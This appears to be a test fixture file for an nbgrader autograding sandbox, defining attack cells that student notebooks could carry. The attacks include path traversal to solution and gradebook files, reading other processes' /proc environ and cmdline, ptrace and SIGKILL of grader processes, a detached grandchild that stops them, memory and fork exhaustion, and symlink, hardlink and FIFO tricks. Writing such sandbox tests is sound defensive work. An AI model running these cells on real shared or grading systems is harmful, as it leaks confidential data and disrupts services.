"""Submissions that try to read, reach or disturb what their kernel must not, during real autograde.

Each is the honest regularization notebook with one cell added at the top: the attack. What it finds,
it prints, so that it lands in the autograded notebook and the feedback, where the test looks for the
course's confidential strings. It also writes what it found into its own folder, as a student would to
carry it out of the container. The `links` submissions are refused before nbgrader opens them.
"""

from __future__ import annotations

import os
from dataclasses import dataclass

SEARCH = r'''
import os, sys
FOUND = []
def found(label, value):
    text = repr(value)[:3000]
    FOUND.append(f"{label}: {text}")
    print("FOUND", label, text)
    try:
        with open("loot.txt", "a") as fh:
            fh.write(f"{label}: {text}\n")
    except OSError:
        pass
def attempt(label, fn):
    try:
        found(label, fn())
    except BaseException as exc:
        print("refused", label, type(exc).__name__)
def read(path):
    with open(path, "rb") as fh:
        return fh.read(200000)
'''

ATTACKS_BY_NAME = {
    "relative-paths": SEARCH + r'''
for rel in ["../../../solutions/lecture3/regularization.ipynb", "../../../source/lecture3/regularization.ipynb",
            "../../../release/lecture3/regularization.ipynb", "../../../gradebook.db", "../../../course.yaml",
            "../../../grader/checks/regularization.py", "../../../nbgrader_config.py",
            "../../../secret-home/canary.txt", "../../../../secret-home/canary.txt"]:
    attempt("read " + rel, lambda rel=rel: read(rel))
for rel in ["..", "../..", "../../..", "../../../submitted", "../../../autograded", "../../../feedback"]:
    attempt("list " + rel, lambda rel=rel: os.listdir(rel))
''',
    "absolute-paths": SEARCH + r'''
here = os.getcwd()
found("cwd", here)
parts = here.split(os.sep)
for i in range(len(parts), 0, -1):
    folder = os.sep.join(parts[:i]) or "/"
    attempt("list " + folder, lambda folder=folder: os.listdir(folder))
for top in ["/", "/tmp", "/root", "/home", "/work", os.environ.get("HOME", "/")]:
    for dirpath, dirnames, filenames in os.walk(top):
        if dirpath.startswith(("/proc", "/sys", "/usr", "/dev")) or dirpath.count(os.sep) > 6:
            dirnames[:] = []
            continue
        for name in filenames:
            if name in ("gradebook.db", "course.yaml", "canary.txt") or name.endswith(".ipynb"):
                attempt("read " + os.path.join(dirpath, name), lambda p=os.path.join(dirpath, name): read(p))
''',
    "proc": SEARCH + r'''
found("ppid", os.getppid())
attempt("parent cwd", lambda: os.listdir(f"/proc/{os.getppid()}/cwd"))
attempt("parent environ", lambda: read(f"/proc/{os.getppid()}/environ"))
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    attempt(f"cmdline {pid}", lambda pid=pid: read(f"/proc/{pid}/cmdline"))
    attempt(f"environ {pid}", lambda pid=pid: read(f"/proc/{pid}/environ"))
    attempt(f"cwd {pid}", lambda pid=pid: os.listdir(f"/proc/{pid}/cwd"))
    attempt(f"root {pid}", lambda pid=pid: os.listdir(f"/proc/{pid}/root"))
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        fds = []
    for fd in fds:
        attempt(f"fd {pid}/{fd}", lambda pid=pid, fd=fd: os.readlink(f"/proc/{pid}/fd/{fd}"))
attempt("mounts", lambda: read("/proc/self/mountinfo"))
''',
    "gradebook-sqlite": SEARCH + r'''
import sqlite3
for path in ["../../../gradebook.db", "/gradebook.db", os.path.join(os.path.dirname(os.path.dirname(
        os.path.dirname(os.getcwd()))), "gradebook.db")]:
    def query(path=path):
        if not os.path.exists(path):
            raise FileNotFoundError(path)
        with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as db:
            return db.execute("SELECT id FROM student").fetchall()
    attempt("gradebook " + path, query)
''',
    "network": SEARCH + r'''
import socket
for host in ["127.0.0.1", "localhost", "::1"]:
    def connect(host=host):
        with socket.create_connection((host, {port}), timeout=2) as s:
            s.sendall(b"attack\n")
            return s.recv(100)
    attempt("connect " + host, connect)
''',
    "signal-and-ptrace": SEARCH + r'''
import ctypes, signal
libc = ctypes.CDLL(None, use_errno=True)
def graders():
    # Only nbgrader's processes (and the parent): were the container to fail, this attack must not take
    # the rest of the machine with it.
    out = set()
    for p in os.listdir("/proc"):
        try:
            if p.isdigit() and b"nbgrader" in read(f"/proc/{p}/cmdline"):
                out.add(int(p))
        except OSError:
            pass
    return out
targets = ({os.getppid()} | graders()) - {os.getpid()}
found("targets", sorted(targets))
for pid in sorted(targets):
    if pid <= 0:
        continue
    attempt(f"ptrace {pid}", lambda pid=pid: libc.ptrace(16, pid, None, None) == 0 or ctypes.get_errno())
    attempt(f"SIGSTOP {pid}", lambda pid=pid: os.kill(pid, signal.SIGSTOP))
    attempt(f"SIGKILL {pid}", lambda pid=pid: os.kill(pid, signal.SIGKILL))
attempt("kill parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
''',
    "setsid-grandchild": r'''
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        # Survives its kernel if it can, stopping every other process it can see, then sleeps on.
        end = time.time() + 60
        while time.time() < end:
            for p in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
                try:
                    with open(f"/proc/{p}/cmdline", "rb") as fh:
                        if b"nbgrader" in fh.read():
                            os.kill(int(p), signal.SIGSTOP)
                except OSError:
                    pass
            time.sleep(0.2)
        os.execvp("sleep", ["sleep", "{marker}"])
    os._exit(0)
print("left a grandchild behind")
''',
    "memory-limit": r'''
blocks = []
try:
    while True:
        blocks.append(bytearray(64 * 2**20))   # touched: every page is written
except MemoryError:
    print("memory limit reached after", len(blocks) * 64, "MB")
del blocks
''',
    "process-limit": r'''
import os, time
children = 0
try:
    for _ in range(10000):
        pid = os.fork()
        if pid == 0:
            time.sleep(120)
            os._exit(0)
        children += 1
except OSError as exc:
    print("process limit reached after", children, "children:", type(exc).__name__)
''',
}


@dataclass(frozen=True)
class LinkSubmission:
    """A submission that holds a link or special file where nbgrader would follow or copy it."""
    name: str
    make: str          # how the folder is built: see write_link_submission


LINKS = [
    LinkSubmission("notebook-is-symlink-to-solution", "notebook->solutions"),
    LinkSubmission("extra-file-symlink-to-gradebook", "grades.db->gradebook"),
    LinkSubmission("extra-file-symlink-to-peer", "peer.ipynb->peer"),
    LinkSubmission("extra-file-hardlink-to-gradebook", "hardlink gradebook"),
    LinkSubmission("extra-file-fifo", "fifo"),
    LinkSubmission("folder-symlink-to-solutions", "folder->solutions"),
]


def write_link_submission(link: LinkSubmission, folder, course_root, peer_notebook, honest_notebook) -> None:
    """`folder` is submitted/<student>/lecture3; it gets the honest notebook unless the attack replaces it."""
    folder.mkdir(parents=True)
    target = folder / "regularization.ipynb"
    if link.make == "notebook->solutions":
        target.symlink_to(os.path.relpath(course_root / "solutions" / "lecture3" / "regularization.ipynb", folder))
        return
    target.write_text(honest_notebook)
    if link.make == "grades.db->gradebook":
        (folder / "grades.db").symlink_to(os.path.relpath(course_root / "gradebook.db", folder))
    elif link.make == "peer.ipynb->peer":
        (folder / "peer.ipynb").symlink_to(os.path.relpath(peer_notebook, folder))
    elif link.make == "hardlink gradebook":
        os.link(course_root / "gradebook.db", folder / "grades.db")
    elif link.make == "fifo":
        os.mkfifo(folder / "pipe")
    elif link.make == "folder->solutions":
        (folder / "data").symlink_to(os.path.relpath(course_root / "solutions" / "lecture3", folder))
